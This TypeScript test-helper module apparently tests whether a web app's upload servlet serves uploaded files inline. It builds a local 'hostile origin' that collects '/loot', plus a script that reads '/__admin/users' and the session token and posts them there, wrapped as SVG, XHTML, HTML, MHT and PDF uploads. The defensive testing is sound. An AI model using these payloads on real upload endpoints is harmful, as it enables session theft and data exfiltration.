import { once } from 'node:events';
import { createServer } from 'node:http';
import type { AddressInfo, Server } from 'node:net';
import type { Page } from 'playwright-core';
import { onTestFinished } from 'vitest';

/** A server on a free port of this machine, closed when the test ends. */
export async function listening(server: Server): Promise<string> {
  server.listen(0, '127.0.0.1');
  await once(server, 'listening');
  onTestFinished(() => void server.close());
  return `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
}

/** An origin of somebody else: its page does nothing by itself, and what is sent to `/loot` is kept. */
export async function hostileOrigin() {
  const loot: string[] = [];
  const server = createServer((request, response) => {
    response.setHeader('Access-Control-Allow-Origin', '*');
    response.setHeader('Content-Type', 'text/html');
    if (request.url !== '/loot') return void response.end('<!doctype html><title>Elsewhere</title>');
    let text = '';
    request
      .on('data', chunk => (text += chunk))
      .on('end', () => {
        loot.push(text);
        response.end();
      });
  });
  return { origin: await listening(server), loot };
}

/**
 * A script that sends what it can read of the control API and of its tab to the hostile origin. It waits for each
 * answer where it stands, so that a page that has loaded has done all that it can.
 */
const script = (origin: string) => `
  function ask(method, url, body) {
    var request = new XMLHttpRequest();
    request.open(method, url, false);
    request.send(body);
    return request.responseText;
  }
  ask('POST', '${origin}/loot', 'users ' + ask('GET', '/__admin/users', null));
  ask('POST', '${origin}/loot', 'token ' + sessionStorage.getItem('token'));`;

/** The same script in every dress that a browser may run it in. */
export const disguises: Readonly<Record<string, (origin: string) => string>> = {
  svg: origin =>
    `<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9"><script>${script(origin)}</script></svg>`,
  xhtml: origin =>
    `<html xmlns="http://www.w3.org/1999/xhtml"><head><script>${script(origin)}</script></head></html>`,
  html: origin => `<!doctype html><script>${script(origin)}</script>`,
  mht: origin =>
    `MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary=b\r\n\r\n--b\r\nContent-Type: text/html\r\n\r\n<script>${script(origin)}</script>\r\n--b--\r\n`,
  pdf: origin =>
    `%PDF-1.4\n1 0 obj<</Type/Catalog/OpenAction<</S/JavaScript/JS(${script(origin)})>>>>endobj\ntrailer<</Root 1 0 R>>\n<script>${script(origin)}</script>`,
};

/** Uploads by the page's own script, as any page may; returns the address of the file, or undefined when refused. */
export async function uploadFrom(
  page: Page,
  base: string,
  { name, type, text }: { readonly name: string; readonly type: string; readonly text: string },
): Promise<string | undefined> {
  const uploaded: unknown = await page.evaluate(
    async ({ url, name, type, text }) => {
      const form = new FormData();
      form.append('file', new Blob([text], { type }), name);
      return (await fetch(url, { method: 'POST', body: form })).text();
    },
    { url: `${base}/upload/UploadServlet`, name, type, text },
  );
  return /"oUrl":"([^"]+)"/.exec(String(uploaded))?.[1];
}

/** Leads a page to an address; tells whether the browser showed what is there or saved it, once that is over. */
export async function leadTo(page: Page, url: string): Promise<'saved' | 'shown'> {
  const saved = page.waitForEvent('download').then(() => 'saved' as const);
  const shown = page.waitForURL(url).then(() => 'shown' as const);
  await page.evaluate(`void (location.href = ${JSON.stringify(url)})`);
  // Where a file is saved the browser gives up going there.
  return Promise.any([saved, shown]);
}
